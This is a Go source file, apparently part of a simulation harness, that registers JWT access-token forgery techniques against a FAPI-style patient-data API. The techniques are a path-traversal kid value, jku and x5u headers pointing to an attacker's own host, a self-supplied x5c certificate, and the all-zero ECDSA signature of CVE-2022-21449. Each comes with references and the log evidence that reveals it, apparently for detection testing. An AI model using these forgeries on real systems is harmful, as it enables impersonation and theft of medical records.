package attacker

import (
	"context"
	"encoding/json"
	"strings"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

// The thief writes an access token and tells the API, in its header, which key to verify it with: his own,
// or none. A server that picks keys by what a token says about itself believes him.
func persuasiveToken(id, variant, title, story string, reads []string, evidence string, change func(g Ground, header map[string]json.RawMessage)) struct{} {
	return register(id, Technique{
		Variant: variant, Title: title, Story: story, Reads: reads, Evidence: evidence, Needs: []event.Vantage{event.APILog},
		Run: func(ctx context.Context, g Ground) error {
			newSite(g)
			return presentForged(ctx, g, func(claims fapi.AccessToken, kid string) (string, error) {
				h := fapi.Header{Typ: fapi.TypAccessToken, Kid: kid}
				return fapi.SignRaw(g.Key("token"), func(header map[string]json.RawMessage) { change(g, header) }, h, claims)
			})
		},
	})
}

// presentForged calls the API with a token that says what the victim's says, bound to the thief's key if it
// is bound at all.
func presentForged(ctx context.Context, g Ground, forge func(claims fapi.AccessToken, kid string) (string, error)) error {
	l, err := stolenRequest(g, event.APILog, "/Patient/")
	if err != nil {
		return err
	}
	a, err := newApp(ctx, g, noCredentials)
	if err != nil {
		return err
	}
	claims, kid, err := l.claims(a.key)
	if err != nil {
		return err
	}
	forged, err := forge(claims, kid)
	if err != nil {
		return err
	}
	_, err = a.read(ctx, l.URL, fapi.TokenResponse{AccessToken: forged, TokenType: l.scheme})
	return err
}

func quoted(s string) json.RawMessage {
	b, err := json.Marshal(s)
	if err != nil {
		panic("a string that cannot be written as JSON: " + err.Error())
	}
	return b
}

var _ = persuasiveToken("J-03", "kid-as-path", "An access token whose key id is a path",
	"The thief writes an access token whose key id is a path to an empty file. A server that opens whatever file a token names takes the file's "+
		"content for the key, or shows him what is in it.",
	[]string{"RFC 8725 s2.9, s3.10"},
	"Key ids with slashes, dots or quotes in them, from somebody who is refused.",
	func(_ Ground, header map[string]json.RawMessage) { header["kid"] = quoted("../../../../dev/null") })

var _ = persuasiveToken("J-04", "jku", "An access token that says where its key is",
	"The thief writes an access token, signs it with his own key, and names an address of his where that key can be fetched. A server that follows it "+
		"believes him, and fetches whatever address he names.",
	[]string{"RFC 8725 s3.10", "RFC 7515 s4.1.2", "FAPI 2.0 SP 5.4.2-2"},
	"Tokens with jku in the header; a request of the API's to an address it never had to do with.",
	func(g Ground, header map[string]json.RawMessage) {
		header["jku"] = quoted("https://" + g.Target().OwnHost + "/jwks")
	})

var _ = persuasiveToken("J-05", "x5c", "An access token that brings its own certificate",
	"The thief writes an access token and puts a certificate of his own making into its header. A server that takes the key from there, without asking "+
		"who issued it, believes him.",
	[]string{"RFC 8725 s3.10", "RFC 7515 s4.1.6"},
	"Tokens with x5c in the header, which the server never writes.",
	func(_ Ground, header map[string]json.RawMessage) {
		header["x5c"] = json.RawMessage(`["TWFsbG9yeSdzIG93biBjZXJ0aWZpY2F0ZQ=="]`)
	})

var _ = persuasiveToken("J-05/address", "x5u", "An access token that says where its certificate is",
	"The thief writes an access token and names an address of his where a certificate of his own making can be fetched. A server that follows it believes "+
		"him, and fetches whatever address he names.",
	[]string{"RFC 8725 s3.10", "RFC 7515 s4.1.5", "FAPI 2.0 SP 5.4.2-2"},
	"Tokens with x5u in the header; a request of the API's to an address it never had to do with.",
	func(g Ground, header map[string]json.RawMessage) {
		header["x5u"] = quoted("https://" + g.Target().OwnHost + "/chain.pem")
	})

var _ = register("J-16", Technique{
	Variant: "zero-signature",
	Title:   "An access token whose signature is all zeros",
	Story: "In 2022 some versions of Java took an ECDSA signature of nothing but zeros for valid, whatever it was on. The thief writes an access token and " +
		"adds 64 zero bytes.",
	Reads:    []string{"CVE-2022-21449", "FAPI 2.0 SP 6.6"},
	Evidence: "The same signature on different tokens; a token whose jti the server never issued.",
	Needs:    []event.Vantage{event.APILog},
	Run: func(ctx context.Context, g Ground) error {
		return presentForged(ctx, g, func(claims fapi.AccessToken, kid string) (string, error) {
			signed, err := fapi.Sign(fapi.Header{Typ: fapi.TypAccessToken, Kid: kid}, claims, g.Key("token"))
			return withZeroSignature(signed), err
		})
	},
})

// withZeroSignature puts 64 zero bytes in place of a signature.
func withZeroSignature(signed string) string {
	return signed[:strings.LastIndex(signed, ".")+1] + strings.Repeat("A", 86) // base64url of 64 zero bytes
}
